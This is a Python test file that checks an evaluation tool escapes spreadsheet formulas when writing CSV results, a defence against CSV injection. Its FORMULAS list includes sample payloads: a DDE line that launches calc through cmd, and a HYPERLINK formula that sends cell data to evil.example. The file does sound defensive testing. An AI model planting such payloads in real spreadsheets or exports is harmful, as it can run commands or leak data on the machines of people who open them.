"""Formulas in what is written for spreadsheets: they are text there.

https://owasp.org/www-community/attacks/CSV_Injection
"""

import csv
import sys
from pathlib import Path

import pytest
from hypothesis import given
from hypothesis import strategies as st

sys.path.insert(0, str(Path(__file__).resolve().parents[2] / "evaluation" / "html"))
from html_reports import measured
from predicted import predicted

from backstory.evaluation.nlu.files import CONFUSIONS, write_results
from backstory.evaluation.writing import as_cell

ROOT = Path(__file__).resolve().parents[3]
STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("https://evil.example?x="&A1,"see")',
    "+1+1",
    "-1+1",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "＝1+1",
]


@pytest.mark.parametrize("formula", FORMULAS)
def test_an_intent_that_is_a_formula_is_written_as_text(tmp_path: Path, formula: str) -> None:
    write_results(measured([predicted(formula, "greet"), predicted("greet", formula)]), tmp_path)
    with (tmp_path / CONFUSIONS).open(encoding="utf-8", newline="") as file:
        rows = list(csv.reader(file))
    assert ["greet", f"'{formula}", "1"] in rows
    assert [f"'{formula}", "greet", "1"] in rows


@given(st.text(), st.sampled_from(["", *STARTS]))
def test_no_text_begins_as_a_formula_does(text: str, start: str) -> None:
    assert not as_cell(start + text).startswith(STARTS)


@given(st.from_regex(r"[A-Za-z0-9 (<].*", fullmatch=True) | st.integers() | st.floats(allow_nan=False))
def test_other_cells_are_written_as_they_are(value: str | int | float) -> None:
    assert as_cell(value) == value


def test_whatever_writes_tables_writes_cells_so() -> None:
    writers = [
        file
        for file in (ROOT / "backstory").rglob("*.py")
        if any(word in file.read_text() for word in ("csv.writer", "csv.DictWriter", "Workbook("))
    ]
    assert writers
    assert [file for file in writers if "as_cell" not in file.read_text()] == []
